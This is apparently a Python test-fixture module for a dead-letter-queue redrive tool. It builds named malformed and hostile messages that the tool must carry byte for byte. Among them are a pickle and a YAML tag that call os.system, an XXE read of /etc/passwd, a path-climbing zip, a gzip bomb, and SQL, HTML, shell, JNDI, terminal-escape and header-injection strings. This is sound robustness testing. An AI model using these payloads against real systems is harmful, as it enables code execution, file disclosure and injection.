"""Messages that other systems choked on, each with a name; every one has to be carried byte for byte (F26)."""

from __future__ import annotations

import gzip
import io
import json
import pickle
import random
import zipfile
from datetime import UTC, datetime, timedelta
from itertools import chain
from typing import TYPE_CHECKING, Any, NamedTuple

from redrive.message import Message

if TYPE_CHECKING:
    from collections.abc import Iterator

QUEUE = "orders"
NOON = datetime(2026, 3, 1, 12, tzinfo=UTC)
MEGABYTE = 1024 * 1024
DEEP = 20_000


class Hostile(NamedTuple):
    name: str
    message: Message


def corpus() -> list[Hostile]:
    """Every crafted message; ids differ, so that each can be found again."""
    families = (_bodies(), _envelopes(), _headers(), _keys(), _properties(), _facts())
    return [Hostile(name, message) for name, message in chain.from_iterable(families)]


def _message(name: str, body: bytes | None = b"{}", **fields: Any) -> tuple[str, Message]:
    given: dict[str, Any] = {"id": f"hostile {name}", "queue": QUEUE, "sent_at": NOON, "body": body} | fields
    return name, Message(**given)


def _bodies() -> Iterator[tuple[str, Message]]:
    groups = (_EMPTY, _BYTES, _FORMATS, _JSON, _TERMINALS, _INJECTIONS, _UNICODE)
    for group in groups:
        for name, body in group.items():
            yield _message(name, body)
    for name, body in _large():
        yield _message(name, body)


_EMPTY: dict[str, bytes | None] = {
    "no body": None,
    "empty body": b"",
    "one space": b" ",
    "line feed": b"\n",
    "carriage return": b"\r",
    "JSON null": b"null",
    "JSON empty text": b'""',
}

_BYTES: dict[str, bytes] = {
    "NUL": b"\x00",
    "many NULs": bytes(4096),
    "text with a NUL": b"before\x00after",
    "JSON with a NUL behind it": b'{"order_id": 1}\x00',
    "every byte": bytes(range(256)),
    "every byte backwards": bytes(range(255, -1, -1)),
    "0xff": b"\xff" * 64,
    "lonely continuation byte": b"\x80",
    "truncated UTF-8": "order €".encode()[:-1],
    "overlong slash": b"\xc0\xaf",
    "overlong NUL": b"\xc0\x80",
    "surrogate in UTF-8": b"\xed\xa0\x80",
    "surrogate pair in UTF-8 (CESU-8)": b"\xed\xa0\xbd\xed\xb8\x80",
    "beyond Unicode": b"\xf4\x90\x80\x80",
    "five-byte UTF-8": b"\xf8\x88\x80\x80\x80",
    "Latin-1": "não é válido".encode("latin-1"),
    "UTF-16 with BOM": '{"order_id": 1}'.encode("utf-16"),
    "UTF-16 big-endian": '{"order_id": 1}'.encode("utf-16-be"),
    "UTF-32": '{"order_id": 1}'.encode("utf-32"),
    "UTF-8 BOM alone": b"\xef\xbb\xbf",
    "EBCDIC": "order".encode("cp500"),
}


def _zipped() -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(zipfile.ZipInfo("../../etc/cron.d/job"), b"\x00" * MEGABYTE)
    return file.getvalue()


_FORMATS: dict[str, bytes] = {
    "pickle": pickle.dumps({"order_id": 1}),
    "pickle that would run a command": b"cos\nsystem\n(S'false'\ntR.",
    "gzip": gzip.compress(b'{"order_id": 1}', mtime=0),
    "gzip bomb": gzip.compress(bytes(MEGABYTE), mtime=0),
    "zip with a path that climbs": _zipped(),
    "protobuf": b"\x08\x96\x01\x12\x07testing\x1a\x03\x08\x96\x01",
    "Avro with a schema id": b"\x00\x00\x00\x00\x2a\x02\x0aorder",
    "Avro container": b"Obj\x01\x04\x14avro.codec\x08null",
    "MessagePack": b"\x81\xa8order_id\xcf\xff\xff\xff\xff\xff\xff\xff\xff",
    "CBOR": b"\xa1\x68order_id\x1b\xff\xff\xff\xff\xff\xff\xff\xff",
    "BSON": b"\x16\x00\x00\x00\x02hello\x00\x06\x00\x00\x00world\x00\x00",
    "Java serialization": b"\xac\xed\x00\x05sr\x00\x11java.util.HashMap",
    "PNG": b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR",
    "PDF": b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n",
    "ELF": b"\x7fELF\x02\x01\x01" + bytes(9),
    "SQLite file": b"SQLite format 3\x00" + bytes(84),
    "a spool record's beginning": b"\xd7RSP\x01" + bytes(16) + b"\xff\xff\xff\xff\xff\xff\xff\xff",
    "XML bomb": b'<!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;&a;">]><x>&b;</x>',
    "XML that reads a file": b'<!DOCTYPE x [<!ENTITY f SYSTEM "file:///etc/passwd">]><x>&f;</x>',
    "YAML that makes an object": b"!!python/object/apply:os.system ['false']",
    "TOML": b"[order]\nid = 1\nat = 2026-03-01T12:00:00Z\n",
    "multipart": b'--b\r\nContent-Disposition: form-data; name="x"\r\n\r\n1\r\n--b--\r\n',
    "HTTP request": b"POST /dlq HTTP/1.1\r\nHost: x\r\nContent-Length: 0\r\n\r\n",
    "base64": b"eyJvcmRlcl9pZCI6IDF9",
    "newline-delimited JSON": b'{"order_id": 1}\n{"order_id": 2}\n',
}

_JSON: dict[str, bytes] = {
    "unclosed object": b'{"order_id": 1',
    "unclosed text": b'{"order_id": "1',
    "trailing comma": b'{"order_id": 1,}',
    "single quotes": b"{'order_id': 1}",
    "no quotes": b"{order_id: 1}",
    "comment": b'{"order_id": 1 /* one */}',
    "two documents": b'{"order_id": 1}{"order_id": 2}',
    "white space around": b' \t\r\n{ "order_id" : 1 } \r\n',
    "JSON with BOM": b'\xef\xbb\xbf{"order_id": 1}',
    "duplicate keys": b'{"order_id": 1, "order_id": 2}',
    "duplicate keys in another spelling": b'{"order_id": 1, "order\\u005fid": 2}',
    "keys out of order": b'{"b": 1, "a": 2}',
    "empty key": b'{"": 1}',
    "keys of other languages": b'{"__proto__": {"admin": true}, "constructor": {}, "$where": "1", "__class__": 1}',
    "integer beyond 2^53": b"9007199254740993",
    "integer beyond 64 bits": b"18446744073709551616",
    "smallest 64-bit integer minus one": b"-9223372036854775809",
    "integer of 5,000 digits": b"9" * 5000,
    "NaN": b'{"price": NaN}',
    "Infinity": b'{"price": -Infinity}',
    "1e400": b'{"price": 1e400}',
    "number that underflows": b'{"price": 1e-400}',
    "minus zero": b'{"price": -0.0}',
    "decimal that no float holds": b'{"price": 0.1000000000000000055511151231257827021181583404541015625}',
    "leading zero": b'{"price": 007}',
    "plus sign": b'{"price": +1}',
    "hexadecimal": b'{"price": 0x10}',
    "escaped NUL": b'{"name": "\\u0000"}',
    "escaped lone surrogate": b'{"name": "\\ud800"}',
    "escaped surrogates the wrong way round": b'{"name": "\\ude00\\ud83d"}',
    "escaped pair": b'{"name": "\\ud83d\\ude00"}',
    "escaped slash": b'{"path": "a\\/b"}',
    "raw control character in a text": b'{"name": "a\x07b"}',
    "raw line feed in a text": b'{"name": "a\nb"}',
    "invalid UTF-8 in a text": b'{"name": "\xff"}',
    "invalid escape": b'{"name": "\\x41"}',
    "true": b"true",
    "number": b"42",
    "text": b'"order"',
    "list": b"[1, [2, [3]]]",
    "number as text": b'{"order_id": "1"}',
}

_TERMINALS: dict[str, bytes] = {
    "clears the screen": b"\x1b[2J\x1b[H",
    "colours": b"\x1b[31;1mred\x1b[0m",
    "sets the window's title": b"\x1b]0;owned\x07",
    "writes to the clipboard": b"\x1b]52;c;cm0gLXJmIH4=\x07",
    "hyperlink": b"\x1b]8;;http://example.invalid\x07click\x1b]8;;\x07",
    "asks the terminal a question": b"\x1b[6n\x1b[c\x1bZ",
    "device control string": b'\x1bP$q"p\x1b\\',
    "C1 in UTF-8": "\x9b2J\x9d0;owned\x9c".encode(),
    "C1 in Latin-1": b"\x9b2J",
    "overwrites the line": b"paid: no\rpaid: yes",
    "backspaces": b"no\x08\x08yes",
    "bell, form feed, vertical tab": b"\x07\x0c\x0b",
    "DEL": b"\x7f\x7f",
    "escape in JSON": b'{"name": "\\u001b[2J"}',
    "rich markup": b"[bold red]x[/bold red] [link=http://example.invalid]y[/link] [/]",
}

_INJECTIONS: dict[str, bytes] = {
    "SQL": b"'; DROP TABLE letters; --",
    "SQL in JSON": b'{"name": "x\' OR 1=1 --"}',
    "SQL wildcard": b"%_\\%",
    "HTML": b"<script>alert(1)</script>",
    "HTML attribute": b'" onmouseover="alert(1)',
    "HTML entity": b"&lt;script&gt;&#x3c;&amp;lt;",
    "SVG": b"<svg/onload=alert(1)>",
    "end of a script": b"</script><!--",
    "spreadsheet formula": b'=HYPERLINK("http://example.invalid";"x")',
    "spreadsheet formula with a plus": b"+1+1",
    "spreadsheet formula with a minus": b"-1+1",
    "spreadsheet formula with an at": b"@SUM(1+1)",
    "spreadsheet formula behind a tab": b"\t=1+1",
    "CSV": b'a,"b\nc",d;e',
    "shell": b"$(touch owned); `touch owned` | cat",
    "JNDI": b"${jndi:ldap://example.invalid/a}",
    "template": b"{{7*7}} ${7*7} <%= 7*7 %>",
    "format string": b"%s%s%n {0} {queue} {0.__class__}",
    "regular expression that explodes": b"a" * 64 + b"!",
    "path": b"../../../../etc/passwd",
    "log line forged": b'ok\n{"event": "message sent to dead letter queue", "level": "info"}',
    "URL of a file": b"file:///etc/passwd",
}

_UNICODE: dict[str, bytes] = {
    "emoji with joiners": "👩‍👩‍👧‍👦 🏳️‍🌈".encode(),
    "flags and skin": "🇧🇷👍🏽".encode(),
    "right to left": "שלום عليكم".encode(),
    "override of direction": "invoice\u202egpj.exe".encode(),
    "isolates": "\u2066\u2067\u2068\u2069".encode(),
    "zero width": "a\u200bb\u200cc\u200dd\ufeffe".encode(),
    "line separators": "a\u2028b\u2029c\u0085d".encode(),
    "combining characters": ("Z" + "\u0300" * 200).encode(),
    "composed": "\u00e9".encode(),
    "decomposed": "e\u0301".encode(),
    "look-alikes": "аdmin".encode(),  # noqa: RUF001  the first letter is Cyrillic on purpose
    "noncharacters": "\ufffe\uffff\U0010ffff".encode(),
    "private use": "\ue000\U000f0000".encode(),
    "replacement character": "\ufffd".encode(),
    "the store's own escape": "\u241b0000 \u241bd800 \u241b241b".encode(),
    "tags": "\U000e0041\U000e007f".encode(),
    "long s and dotless i": "ſıİ".encode(),
}


def _large() -> Iterator[tuple[str, bytes]]:
    yield "16 MiB", random.Random(1).randbytes(16 * MEGABYTE)  # noqa: S311  the same bytes each time, no secret
    yield "16 MiB of JSON and a byte", b'{"x": "' + b"x" * (16 * MEGABYTE - 8) + b'"}'
    yield "one line of a megabyte", b"x" * MEGABYTE
    yield "a megabyte of brackets", b"[" * MEGABYTE
    yield f"{DEEP} lists deep", b"[" * DEEP + b"]" * DEEP
    yield f"{DEEP} objects deep", b'{"a":' * DEEP + b"1" + b"}" * DEEP
    yield "a hundred thousand keys", json.dumps({f"k{number}": number for number in range(100_000)}).encode()
    yield "a megabyte of escapes", b'"' + b"\\u001b" * (MEGABYTE // 6) + b'"'
    yield "a megabyte of line feeds", b"\n" * MEGABYTE


# S3's envelope, and what only looks like it

_ENVELOPE: dict[str, Any] = {
    "message_id": "018f0000-0000-7000-8000-000000000001",
    "timestamp": "2026-03-01T12:00:00.000+00:00",
    "version": "1.0",
    "source": "checkout",
    "queue": "orders",
    "data": {"order_id": 1},
    "metadata": {"correlation_id": "abc-123"},
    "error": None,
    "retry_count": 0,
}

_CHANGED: dict[str, dict[str, Any]] = {
    "as it should be": {},
    "with its error": {"error": {"message": "x", "code": "y", "trace": "z"}, "retry_count": 3},
    "an extra field": {"priority": "high"},
    "id is a number": {"message_id": 7},
    "id is null": {"message_id": None},
    "id is empty": {"message_id": ""},
    "id is a path": {"message_id": "../../etc/passwd"},
    "timestamp is a number": {"timestamp": 1772366400},
    "timestamp is nonsense": {"timestamp": "yesterday"},
    "another version": {"version": "99.0"},
    "version is a number": {"version": 1.0},
    "source is a list": {"source": ["checkout"]},
    "queue of somebody else": {"queue": "payments_dlq"},
    "data is null": {"data": None},
    "data is text": {"data": "order"},
    "data is an envelope": {"data": dict(_ENVELOPE)},
    "data has a big integer": {"data": {"order_id": 2**70}},
    "metadata is null": {"metadata": None},
    "metadata is a list": {"metadata": [1, 2]},
    "correlation id is a number": {"metadata": {"correlation_id": 7}},
    "error is text": {"error": "failed"},
    "error is incomplete": {"error": {"message": "x"}},
    "error draws on the terminal": {"error": {"message": "\x1b[2J", "code": "\x9b", "trace": "\u202e"}},
    "retry count is negative": {"retry_count": -1},
    "retry count is huge": {"retry_count": 2**63},
    "retry count is text": {"retry_count": "3"},
    "retry count is true": {"retry_count": True},
    "retry count is 1.5": {"retry_count": 1.5},
}


def _envelopes() -> Iterator[tuple[str, Message]]:
    for name, change in _CHANGED.items():
        yield _message(f"envelope: {name}", json.dumps(_ENVELOPE | change).encode())
    for field in _ENVELOPE:
        without = {key: value for key, value in _ENVELOPE.items() if key != field}
        yield _message(f"envelope: without {field}", json.dumps(without).encode())
    whole = json.dumps(_ENVELOPE)
    yield _message("envelope: other order", json.dumps(dict(reversed(_ENVELOPE.items()))).encode())
    yield _message("envelope: white space", json.dumps(_ENVELOPE, indent=3).encode())
    yield _message("envelope: escapes", whole.replace("message_id", "message\\u005fid").encode())
    yield _message("envelope: twice the id", whole.replace("{", '{"message_id": "first", ', 1).encode())
    yield _message("envelope: something behind it", whole.encode() + b" x")
    yield _message("envelope: BOM", b"\xef\xbb\xbf" + whole.encode())
    yield _message("envelope: in a list", f"[{whole}]".encode())
    yield _message("envelope: in a text", json.dumps(whole).encode())
    yield _message("envelope: invalid UTF-8 in data", whole.encode().replace(b'"order_id"', b'"\xff"'))
    yield _message("envelope: lone surrogate in data", whole.replace('"order_id"', '"\\ud800"').encode())
    yield _message("envelope: data nests deep", whole.replace('{"order_id": 1}', "[" * DEEP + "]" * DEEP).encode())


# Headers


def _headers() -> Iterator[tuple[str, Message]]:
    for name, value in _VALUES.items():
        yield _message(f"header value: {name}", headers=(("x", value),))
    for name, text in _NAMES.items():
        yield _message(f"header name: {name}", headers=((text, "value"),))
    for name, headers in _SETS.items():
        yield _message(f"headers: {name}", headers=headers)


def _nested(depth: int) -> Any:
    value: Any = 1
    for _ in range(depth):
        value = [value]
    return value


_VALUES: dict[str, Any] = {
    "None": None,
    "empty text": "",
    "empty bytes": b"",
    "every byte": bytes(range(256)),
    "true": True,
    "false": False,
    "zero": 0,
    "one": 1,
    "1.0": 1.0,
    "largest of 64 bits": 2**63 - 1,
    "smallest of 64 bits": -(2**63),
    "largest without sign": 2**64 - 1,
    "beyond 64 bits": 2**64,
    "below 64 bits": -(2**63) - 1,
    "two hundred bits": -(2**200),
    "NaN": float("nan"),
    "infinity": float("inf"),
    "minus infinity": float("-inf"),
    "minus zero": -0.0,
    "smallest float": 5e-324,
    "largest float": 1.7976931348623157e308,
    "1.1": 1.1,
    "a moment": datetime(2026, 3, 1, 12, 0, 0, 123456, tzinfo=UTC),
    "the first moment": datetime(1, 1, 1, tzinfo=UTC),
    "the last moment": datetime(9999, 12, 31, 23, 59, 59, 999999, tzinfo=UTC),
    "empty list": [],
    "empty table": {},
    "list of everything": [None, True, 1, 1.0, "1", b"1", [1], {"1": 1}],
    "table of everything": {"none": None, "bytes": b"\x00", "list": [1], "big": 2**99, "": ""},
    "table with numbers for keys": {1: "one", 2: "two"},
    "table with a key that is no Unicode": {"\ud800": "\udfff"},
    "sixty levels": _nested(60),
    "lone surrogate": "\ud800",
    "surrogates the wrong way round": "\ude00\ud83d",
    "NUL": "before\x00after",
    "control characters": "\x00\x07\x08\x1b[2J\r\n\x7f\x9b",
    "direction": "\u202eabc",
    "line break": "x\r\nSet-Cookie: a=b",
    "formula": "=1+1",
    "markup": "<script>alert(1)</script>",
    "bytes that are a header": b"\xc7\x03\x01abc",
    "a megabyte": "x" * MEGABYTE,
    "the store's own escape": "\u241b0000",
}

_NAMES: dict[str, str] = {
    "empty": "",
    "space": " ",
    "NUL": "x\x00y",
    "line break": "x\r\ny: z",
    "terminal": "\x1b[2J",
    "lone surrogate": "\udc80",
    "emoji": "🐇",
    "direction": "\u202e",
    "very long": "x" * 65536,
    "capital letters": "X-Redrive-Sig",
    "colon": "x:y",
    "markup": "<b>",
    "prototype": "__proto__",
}

_SIGNED = (
    ("x-redrive-id", "018f0000-0000-7000-8000-000000000002"),
    ("x-redrive-letter", "018f0000-0000-7000-8000-000000000003"),
    ("x-redrive-generation", 1),
    ("x-redrive-sig", "0" * 64),
)

_SETS: dict[str, tuple[tuple[str, Any], ...]] = {
    "ten thousand": tuple((f"x-{number}", number) for number in range(10_000)),
    "one name three times": (("x", 1), ("x", "1"), ("x", b"1")),
    "one name in other letters": (("x", 1), ("X", 2)),
    "ten thousand times the same": (("x", None),) * 10_000,
    "order that no sorting gives": (("b", 1), ("a", 2), ("c", 3), ("a", 1)),
    "forged ticket": _SIGNED,
    "forged ticket between others": (("first", 1), *_SIGNED, ("last", 1)),
    "forged signature alone": (("x-redrive-sig", "0" * 64),),
    "forged signature of another type": (("x-redrive-sig", 7), ("x-redrive-id", None), ("x-redrive-letter", b"")),
    "forged generation": (*_SIGNED[:2], ("x-redrive-generation", True), _SIGNED[3]),
    "forged signature that is no Unicode": (*_SIGNED[:3], ("x-redrive-sig", "\ud800" * 64)),
    "forged ticket twice": _SIGNED + _SIGNED,
    "other control headers": (("x-redrive-run", "1"), ("x-redrive-attempt", 99)),
    "x-death of the wrong type": (("x-death", "yes"), ("x-first-death-queue", 7), ("x-delivery-count", -1)),
    "x-death of many kinds": (("x-death", [{"count": "many", "queue": None}, 7, {}]),),
    "content that is something else": (("content-type", "application/json"), ("content-encoding", "gzip")),
    "trace context that is nonsense": (("traceparent", "00-xyz"), ("tracestate", "=" * 512)),
    "names of the envelope": (("message_id", "x"), ("retry_count", 99), ("error", {"message": "x"})),
}


def _keys() -> Iterator[tuple[str, Message]]:
    for name, key in {
        "empty": b"",
        "NUL": b"\x00",
        "every byte": bytes(range(256)),
        "text": b"customer-1",
        "terminal": b"\x1b[2J",
        "direction": "\u202e".encode(),
        "formula": b"=1+1",
        "a megabyte": b"k" * MEGABYTE,
    }.items():
        yield _message(f"key: {name}", key=key)


def _properties() -> Iterator[tuple[str, Message]]:
    for name, properties in {
        "empty": b"",
        "NUL": b"\x00",
        "every byte": bytes(range(256)),
        "text": b"{}",
        "a megabyte": b"p" * MEGABYTE,
    }.items():
        yield _message(f"properties: {name}", properties=properties)


def _facts() -> Iterator[tuple[str, Message]]:
    for name, text in {
        "empty": "",
        "one character": "x",
        "NUL": "a\x00b",
        "lone surrogate": "\ud800",
        "path": "../../etc/passwd",
        "absolute path": "/etc/passwd",
        "URL": "http://example.invalid/?a=b#c",
        "percent": "%2e%2e%2f%00",
        "slash and question mark": "a/b?c",
        "SQL": "' OR '1'='1",
        "terminal": "\x1b]0;owned\x07",
        "direction": "\u202e",
        "emoji": "🐇",
        "ten thousand characters": "x" * 10_000,
        "the store's own escape": "\u241b0000",
        "a letter's id": "018f0000-0000-7000-8000-000000000003",
        "number": "1",
        "None": "None",
    }.items():
        yield _message(f"id: {name}", id=text)
        yield _message(f"source: {name}", source=text)
    yield _message("queue of its own: terminal", queue="\x1b[2J")
    yield _message("queue of its own: lone surrogate", queue="\ud800")
    yield _message("queue of its own: empty", queue="")
    yield _message("sent at the first moment", sent_at=datetime(1, 1, 1, tzinfo=UTC))
    yield _message("sent at the last moment", sent_at=datetime(9999, 12, 31, 23, 59, 59, 999999, tzinfo=UTC))
    yield _message("sent before 1970", sent_at=datetime(1969, 12, 31, 23, 59, 59, 999999, tzinfo=UTC))
    yield _message("sent in the future", sent_at=NOON + timedelta(days=36_500))


def exactly(value: Any) -> Any:
    """Something that is equal only for values of the same types: 1 is not True, 0.0 is not -0.0, NaN is NaN."""
    if isinstance(value, dict):
        return ("dict", [(exactly(key), exactly(item)) for key, item in value.items()])
    if isinstance(value, list | tuple):
        return ("list", [exactly(item) for item in value])
    return (type(value).__name__, repr(value))
